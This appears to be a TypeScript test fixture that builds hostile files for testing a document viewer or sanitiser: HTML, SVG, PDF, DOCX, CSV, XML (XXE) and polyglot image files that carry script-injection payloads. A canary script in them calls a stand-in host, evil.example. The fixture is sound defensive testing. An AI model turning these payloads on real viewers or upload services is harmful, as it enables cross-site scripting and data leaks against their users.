import { gzipSync } from 'node:zlib';
import { docxOf, paragraph, xlsxOf } from './office-files';

/** A script that would show itself: in the page, to the user, and to another server. */
const script = `window.ran = 1; top.ran = 1; alert('ran'); fetch('https://evil.example/ran'); fetch('/api/v1/user')`;
const picture = 'https://evil.example/picture.png';
const html = `<!doctype html><title>Title</title><script>${script}</script><img src="${picture}" onerror="${script}"><iframe src="javascript:${script}"></iframe><link rel=stylesheet href="https://evil.example/a.css"><meta http-equiv=refresh content="0;url=https://evil.example/">`;
const svg = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload="${script}"><script>${script}</script><foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><img src="${picture}" onerror="${script}"/></body></foreignObject><a xlink:href="javascript:${script}"><text y="20">Title</text></a><image href="${picture}"/></svg>`;
const gif = Buffer.concat([
  Buffer.from('GIF89a/*'),
  Buffer.from('\x01\x00\x80\x00\x00', 'latin1'),
  Buffer.from(`*/=1;${script};`),
]);
const png = Buffer.concat([Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex'), Buffer.from(html)]);

/** A PDF whose catalogue and page run JavaScript, with a link and a form that would send something away. */
const pdf = pdfOf([
  `<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (${script.replace(/[()]/g, '\\$&')}) >> >>`,
  '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
  `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 100] /Contents 4 0 R /AA << /O << /S /JavaScript /JS (app.alert\\(1\\)) >> >> /Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 200 100] /A << /S /URI /URI (${picture}) >> >>] /Resources << /Font << /F << /Type /Font /Subtype /Type1 /BaseFont /Helvetica /FontMatrix [1 2 3 4 5 (0\\); ${script.replace(/[()]/g, '\\$&')}//)] >> >> >> >>`,
  '<< /Length 44 >>\nstream\nBT /F 18 Tf 20 40 Td (A title in a PDF) Tj ET\nendstream',
]);

/** A PDF of objects, which are numbered from 1. */
export function pdfOf(objects: string[]): Buffer {
  let text = '%PDF-1.7\n';
  const offsets = objects.map((object, at) => {
    const offset = text.length;
    text += `${at + 1} 0 obj\n${object}\nendobj\n`;
    return offset;
  });
  const start = text.length;
  const lines = offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('');
  text += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${lines}`;
  text += `trailer << /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${start}\n%%EOF`;
  return Buffer.from(text, 'latin1');
}

const word = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document';
const excel = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';
const escaped = html.replaceAll('&', '&amp;').replaceAll('<', '&lt;');

/** With links that run or lead out, a picture from elsewhere, and rules that make scripts of its text. */
const docx = docxOf(
  `${paragraph('Title', 'Heading1')}${paragraph(escaped)}${paragraph(script, 'Evil')}<w:p><w:hyperlink r:id="r1"><w:r><w:t>run</w:t></w:r></w:hyperlink><w:hyperlink r:id="r2"><w:r><w:t>leave</w:t></w:r></w:hyperlink></w:p><w:p><w:r><w:drawing><wp:inline><a:graphic><a:graphicData><pic:pic><pic:blipFill><a:blip r:link="r3"/></pic:blipFill></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>`,
  {
    links: [
      ['hyperlink', `javascript:${script}`],
      ['hyperlink', picture],
      ['image', picture],
    ],
    more: {
      'mammoth/style-map': "p[style-name='Evil'] => script\np => img[src='https://evil.example/map.png']",
    },
  },
);

/** Files that would do harm where they were shown as what they claim to be: name, claimed type, bytes. */
export const hostileFiles: [name: string, type: string, content: Buffer | string][] = [
  ['page.html', 'text/html', html],
  [
    'page.xhtml',
    'application/xhtml+xml',
    `<html xmlns="http://www.w3.org/1999/xhtml"><body><script>${script}</script>Title</body></html>`,
  ],
  ['utf16.html', 'text/html', Buffer.from(`\ufeff${html}`, 'utf16le')],
  ['utf7.html', 'text/html; charset=utf-7', `+ADw-script+AD4-${script}+ADw-/script+AD4-`],
  ['drawing.svg', 'image/svg+xml', svg],
  ['drawing.svgz', 'image/svg+xml', gzipSync(svg)],
  [
    'styled.xml',
    'text/xml',
    `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="https://evil.example/a.xsl"?><!DOCTYPE a [<!ENTITY e SYSTEM "${picture}">]><a>&e;Title</a>`,
  ],
  [
    'notes.md',
    'text/markdown',
    `# Title\n\n${html}\n\n![](${picture}) [link](javascript:${script}) <img src=x onerror="${script}">`,
  ],
  ['table.csv', 'text/csv', `Title,b\n"=HYPERLINK(""${picture}"")","<script>${script}</script>"\n`],
  ['code.js', 'text/javascript', script],
  ['paper.pdf', 'application/pdf', pdf],
  ['letter.docx', word, docx],
  ['not-a.docx', word, html],
  ['book.xlsx', excel, xlsxOf({ Title: [[escaped, 1]], '=HYPERLINK(1)': [['x']] })],
  ['not-a.pdf', 'application/pdf', html],
  ['polyglot.gif', 'image/gif', gif],
  ['polyglot.png', 'image/png', png],
  ['html-as.png', 'image/png', html],
  ['html-as.mp4', 'video/mp4', html],
  [
    'archive.mhtml',
    'multipart/related',
    `MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=b\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n${html}\r\n--b--`,
  ],
  ['empty.html', 'text/html', ''],
];
